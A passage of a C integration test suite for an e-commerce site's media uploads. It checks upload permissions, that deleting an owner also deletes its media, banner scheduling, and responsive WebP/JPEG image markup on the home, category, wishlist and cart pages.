	static const char *const types[] = { "category", "brand", "banner" };
	size_t len;
	unsigned char *img;
	http_result *r;
	char path[256], body[512], id[64], mid[64], *ghost;
	long items, files;
	time_t now = time(NULL);

	setup();
	img = make_image("JPEG", 300, 200, "#30c060", 0, &len);
	items = psql_count("SELECT count(*) FROM media.items");
	files = media_upload_files();
	ghost = psql_value("SELECT gen_random_uuid()");
	for (size_t i = 0; i < 3; i++) {
		char want[128];

		r = upload(admin_tok, types[i], ghost, NULL, "x.jpg", "image/jpeg", img, len);
		ck_assert_msg(r->status == 404, "%s: %ld %s", types[i], r->status, r->body);
		snprintf(want, sizeof want, "no %s with id %s", types[i], ghost);
		ck_assert_msg(strstr(r->body, want) != NULL, "%s: %s", types[i], r->body);
		http_result_free(r);
	}
	/* a seller is still told it is not theirs to do, before any lookup */
	r = upload(seller_tok, "brand", ghost, NULL, "x.jpg", "image/jpeg", img, len);
	ck_assert_int_eq(r->status, 403);
	http_result_free(r);
	ck_assert_int_eq(psql_count("SELECT count(*) FROM media.items"), items);
	ck_assert_int_eq(media_upload_files(), files);

	/* a new category, brand and banner each take their pictures with them */
	for (size_t i = 0; i < 3; i++) {
		if (i == 0)
			snprintf(body, sizeof body, "{\"name\":\"Media cat %ld\",\"slug\":\"media-cat-%ld\"}",
			    (long)now, (long)now);
		else if (i == 1)
			snprintf(body, sizeof body, "{\"name\":\"Media brand %ld\",\"slug\":\"media-brand-%ld\"}",
			    (long)now, (long)now);
		else
			snprintf(body, sizeof body, "{\"title\":\"Media banner %ld\",\"image_url\":"
			    "\"/static/x.svg\",\"link_url\":\"/search\",\"link_type\":\"page\","
			    "\"position\":\"media-%ld\",\"is_active\":false}", (long)now, (long)now);
		snprintf(path, sizeof path, "/api/v1/%s", i == 0 ? "categories" : i == 1 ? "brands" : "banners");
		r = call(admin_tok, "POST", path, body);
		ck_assert_msg(r->status == 201, "%s: %ld %s", types[i], r->status, r->body);
		snprintf(id, sizeof id, "%s", jstr(r->json, "data.id"));
		http_result_free(r);
		snprintf(mid, sizeof mid, "%s", uploaded(upload(admin_tok, types[i], id, NULL, "x.jpg",
		    "image/jpeg", img, len)));
		ck_assert_int_gt(media_upload_files(), files);
		snprintf(path + strlen(path), sizeof path - strlen(path), "/%s", id);
		r = call(admin_tok, "DELETE", path, NULL);
		ck_assert_msg(r->status == 200, "%s: %ld %s", types[i], r->status, r->body);
		http_result_free(r);
		ck_assert_msg(item_count(mid) == 0, "%s %s deleted, its media %s kept", types[i], id, mid);
		ck_assert_int_eq(media_upload_files(), files);
	}
	free(ghost);
	free(img);
}
END_TEST

/* The home page shows a banner in its window with its uploaded picture
 * (<picture>, WebP and JPEG srcset, sizes, width and height); one that
 * ended or has not started is not shown. */
START_TEST(home_shows_banners_in_their_window_with_srcset)
{
	static const char *const windows[3] = {
		"\"starts_at\":\"2020-01-01T00:00:00Z\"",
		"\"starts_at\":\"2020-01-01T00:00:00Z\",\"ends_at\":\"2021-01-01T00:00:00Z\"",
		"\"starts_at\":\"2035-01-01T00:00:00Z\"" };
	size_t len;
	unsigned char *img;
	http_result *r;
	char body[1024], path[256], title[3][64], ids[3][64], mid[3][64];
	const char *at, *open_a, *close_a;
	long t = (long)time(NULL), files;

	setup();
	files = media_upload_files();
	img = make_image("JPEG", 1200, 400, "#e07020", 0, &len);
	for (int i = 0; i < 3; i++) {
		snprintf(title[i], sizeof title[i], "Window %d banner %ld", i, t);
		snprintf(body, sizeof body, "{\"title\":\"%s\",\"image_url\":\"/static/x.svg\","
		    "\"link_url\":\"/search\",\"link_type\":\"page\",\"position\":\"hero\","
		    "\"sort_order\":-1000000,%s}", title[i], windows[i]);
		r = call(admin_tok, "POST", "/api/v1/banners", body);
		ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
		snprintf(ids[i], sizeof ids[i], "%s", jstr(r->json, "data.id"));
		http_result_free(r);
		snprintf(mid[i], sizeof mid[i], "%s", uploaded(upload(admin_tok, "banner", ids[i], NULL,
		    "b.jpg", "image/jpeg", img, len)));
	}
	r = http_get("/");
	ck_assert_int_eq(r->status, 200);
	ck_assert_msg((at = strstr(r->body, title[0])) != NULL, "active banner not shown");
	ck_assert_msg(strstr(r->body, title[1]) == NULL, "ended banner shown");
	ck_assert_msg(strstr(r->body, title[2]) == NULL, "future banner shown");
	/* its own <a class="banner ..."> element carries the picture */
	for (open_a = NULL; ; ) {
		const char *n = strstr(open_a != NULL ? open_a + 1 : r->body, "<a class=\"banner");
		if (n == NULL || n > at)
			break;
		open_a = n;
	}
	ck_assert_ptr_nonnull(open_a);
	close_a = strstr(open_a, "</a>");
	ck_assert_ptr_nonnull(close_a);
	{
		char *el = strndup(open_a, (size_t)(close_a - open_a));
		ck_assert_msg(strstr(el, "<picture><source type=\"image/webp\" srcset=\"/media/u/") != NULL,
		    "no WebP srcset: %s", el);
		ck_assert_msg(strstr(el, " srcset=\"/media/u/") != NULL && strstr(el, ".jpg 1200w") != NULL,
		    "no JPEG srcset: %s", el);
		ck_assert_msg(strstr(el, "sizes=\"") != NULL, "no sizes: %s", el);
		ck_assert_msg(strstr(el, "width=\"1200\" height=\"400\"") != NULL, "no size: %s", el);
		ck_assert_msg(strstr(el, "/static/x.svg") == NULL, "URL fallback used: %s", el);
		free(el);
	}
	/* only the first banner is the main one */
	{
		const char *m = strstr(r->body, "banner-main");
		ck_assert_ptr_nonnull(m);
		ck_assert_msg(strstr(m + 1, "banner-main") == NULL, "more than one main banner");
	}
	http_result_free(r);
	for (int i = 0; i < 3; i++) {
		snprintf(path, sizeof path, "/api/v1/banners/%s", ids[i]);
		r = call(admin_tok, "DELETE", path, NULL);
		ck_assert_int_eq(r->status, 200);
		http_result_free(r);
		ck_assert_int_eq(item_count(mid[i]), 0);
	}
	ck_assert_int_eq(media_upload_files(), files);
	free(img);
}
END_TEST

/* The wishlist and the cart show a product's uploaded picture as the
 * cards do, at their thumbnail size. */
START_TEST(wishlist_and_cart_render_srcset)
{
	size_t len;
	unsigned char *img;
	http_result *r;
	char q[512], cmd[1024], path[256], mid[64], *uid, *tok, *iid;
	const char *ctl = getenv("ECOM_TEST_ECOMCTL");

	setup();
	ck_assert_msg(ctl != NULL, "ECOM_TEST_ECOMCTL not set");
	snprintf(cmd, sizeof cmd, "printf '%%s\\n' 'Wishful-thinking-%d-lantern' | %s user create"
	    " --email 'wish-%ld-%d@media-test.example' --role customer --first-name W --last-name L",
	    (int)getpid(), ctl, (long)time(NULL), (int)getpid());
	uid = run_capture(cmd);
	ck_assert_msg(uid != NULL && strlen(uid) == 36, "ecomctl user create: %s", cmd);
	tok = mint_token("customer", uid);
	img = make_image("PNG", 800, 800, "#4040c0", 0, &len);
	snprintf(mid, sizeof mid, "%s", uploaded(upload(admin_tok, "product", product_id, NULL,
	    "w.png", "image/png", img, len)));
	snprintf(q, sizeof q, "SELECT id FROM catalog.images WHERE media_id = '%s'", mid);
	iid = psql_value(q);
	snprintf(path, sizeof path, "/api/v1/products/%s/images/%s", product_id, iid);
	r = call(admin_tok, "PUT", path, "{\"is_primary\":true}");
	ck_assert_msg(r->status == 200, "%ld %s", r->status, r->body);
	http_result_free(r);
	snprintf(path, sizeof path, "/api/v1/users/wishlist/%s", product_id);
	r = call(tok, "POST", path, "{}");
	ck_assert_msg(r->status == 200 || r->status == 201, "%ld %s", r->status, r->body);
	http_result_free(r);
	r = call(tok, "GET", "/account/wishlist", NULL);
	ck_assert_msg(r->status == 200, "%ld %.300s", r->status, r->body);
	ck_assert_msg(strstr(r->body, "<picture><source type=\"image/webp\" srcset=\"/media/u/") != NULL,
	    "no WebP srcset on the wishlist: %s", r->body);
	ck_assert_ptr_nonnull(strstr(r->body, "sizes=\"64px\""));
	ck_assert_ptr_nonnull(strstr(r->body, "width=\"800\" height=\"800\""));
	http_result_free(r);
	/* the cart knows the picture by URL only; it finds the upload too */
	{
		char *vid;
		snprintf(q, sizeof q, "SELECT id FROM catalog.variants WHERE product_id = '%s'"
		    " AND is_active ORDER BY sku LIMIT 1", product_id);
		vid = psql_value(q);
		ck_assert_msg(vid != NULL && strlen(vid) == 36, "no variant of %s", product_id);
		snprintf(q, sizeof q, "{\"product_id\":\"%s\",\"variant_id\":\"%s\",\"quantity\":1}",
		    product_id, vid);
		r = call(tok, "POST", "/api/v1/cart/items", q);
		ck_assert_msg(r->status == 200 || r->status == 201, "%ld %s", r->status, r->body);
		http_result_free(r);
		r = call(tok, "GET", "/cart", NULL);
		ck_assert_msg(r->status == 200, "%ld %.300s", r->status, r->body);
		ck_assert_msg(strstr(r->body, "<picture><source type=\"image/webp\" srcset=\"/media/u/") != NULL,
		    "no WebP srcset in the cart: %s", r->body);
		ck_assert_ptr_nonnull(strstr(r->body, "sizes=\"64px\""));
		http_result_free(r);
		free(vid);
	}
	/* the image goes through the catalog API; its media with it */
	snprintf(path, sizeof path, "/api/v1/products/%s/images/%s", product_id, iid);
	r = call(admin_tok, "DELETE", path, NULL);
	ck_assert_int_eq(r->status, 200);
	http_result_free(r);
	ck_assert_int_eq(item_count(mid), 0);
	free(iid);
	free(tok);
	free(uid);
	free(img);
}
END_TEST

/* The tile linking to /c/<slug> in a page's category tiles (malloc'd),
 * or NULL. */
static char *
tile_of(const char *body, const char *slug)
{
	char href[256];
	const char *tiles = strstr(body, "<ul class=\"tiles\">"), *at, *end;

	snprintf(href, sizeof href, "<a href=\"/c/%s\">", slug);
	if (tiles == NULL || (at = strstr(tiles, href)) == NULL || (end = strstr(at, "</a>")) == NULL)
		return NULL;
	return strndup(at, (size_t)(end - at));
}

/* Category tiles show the category's upload with WebP and JPEG srcset
 * and sizes as product cards do: a top category's on the home page, a
 * subcategory's on its parent's page (their uploads read in one query
 * per page). */
START_TEST(category_tiles_show_uploads_with_srcset)
{
	size_t len;
	unsigned char *img;
	http_result *r;
	char *row, *bar, *bar2, *bar3, *el, path[256], mid[2][64];
	const char *pid, *pslug, *cid, *cslug;
	long files;

	setup();
	files = media_upload_files();
	row = psql_value("SELECT p.id || '|' || p.slug || '|' || c.id || '|' || c.slug"
	    " FROM catalog.categories c JOIN catalog.categories p ON c.parent_id = p.id"
	    " WHERE p.parent_id IS NULL AND p.is_active AND c.is_active"
	    " ORDER BY p.created_at, p.id, c.created_at, c.id LIMIT 1");
	ck_assert_msg(row != NULL && (bar = strchr(row, '|')) != NULL &&
	    (bar2 = strchr(bar + 1, '|')) != NULL && (bar3 = strchr(bar2 + 1, '|')) != NULL,
	    "no category with a subcategory");
	*bar = *bar2 = *bar3 = '\0';
	pid = row;
	pslug = bar + 1;
	cid = bar2 + 1;
	cslug = bar3 + 1;
	img = make_image("PNG", 700, 700, "#5a9e3c", 0, &len);
	snprintf(mid[0], sizeof mid[0], "%s", uploaded(upload(admin_tok, "category", pid, NULL,
	    "tile.png", "image/png", img, len)));
	snprintf(mid[1], sizeof mid[1], "%s", uploaded(upload(admin_tok, "category", cid, NULL,
	    "tile.png", "image/png", img, len)));

	r = http_get("/");
	ck_assert_int_eq(r->status, 200);
	el = tile_of(r->body, pslug);
	ck_assert_msg(el != NULL, "no tile of %s on the home page", pslug);
	ck_assert_msg(strstr(el, "<picture><source type=\"image/webp\" srcset=\"/media/u/") != NULL &&
	    strstr(el, " srcset=\"/media/u/") != NULL && strstr(el, "w, /media/u/") != NULL &&
	    strstr(el, "sizes=\"(max-width: 40em) 50vw, 15em\"") != NULL, "no srcset: %s", el);
	free(el);
	http_result_free(r);

	snprintf(path, sizeof path, "/c/%s", pslug);
	r = http_get(path);
	ck_assert_int_eq(r->status, 200);
	el = tile_of(r->body, cslug);
	ck_assert_msg(el != NULL, "no tile of %s on %s", cslug, path);
	ck_assert_msg(strstr(el, "<picture><source type=\"image/webp\" srcset=\"/media/u/") != NULL &&
	    strstr(el, "sizes=\"(max-width: 40em) 50vw, 15em\"") != NULL, "no srcset: %s", el);
	free(el);
	http_result_free(r);

	for (int i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/api/v1/media/%s", mid[i]);
		r = call(admin_tok, "DELETE", path, NULL);
		ck_assert_msg(r->status == 200 || r->status == 204, "%ld %s", r->status, r->body);
		http_result_free(r);
		ck_assert_int_eq(item_count(mid[i]), 0);
	}
	ck_assert_int_eq(media_upload_files(), files);
	free(img);
	free(row);
}
END_TEST

static Suite *
media_suite(void)
{
	Suite *s = suite_create("media");
	TCase *tc = tcase_create("media");

	tcase_set_timeout(tc, 120);
	tcase_add_loop_test(tc, round_trips_every_format, 0, (int)(sizeof formats / sizeof formats[0]));
	tcase_add_test(tc, orients_and_never_upscales);
	tcase_add_test(tc, accepts_a_large_photo);
	tcase_add_test(tc, seller_on_own_product);
	tcase_add_test(tc, refuses_and_writes_nothing);
	tcase_add_test(tc, product_images_alt_order_and_delete);
	tcase_add_test(tc, catalog_image_delete_releases_media);
	tcase_add_test(tc, owners_must_exist_and_take_their_media);
	tcase_add_test(tc, home_shows_banners_in_their_window_with_srcset);
	tcase_add_test(tc, category_tiles_show_uploads_with_srcset);
	tcase_add_test(tc, wishlist_and_cart_render_srcset);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	skip_without_stack();
	return check_run(media_suite());
}
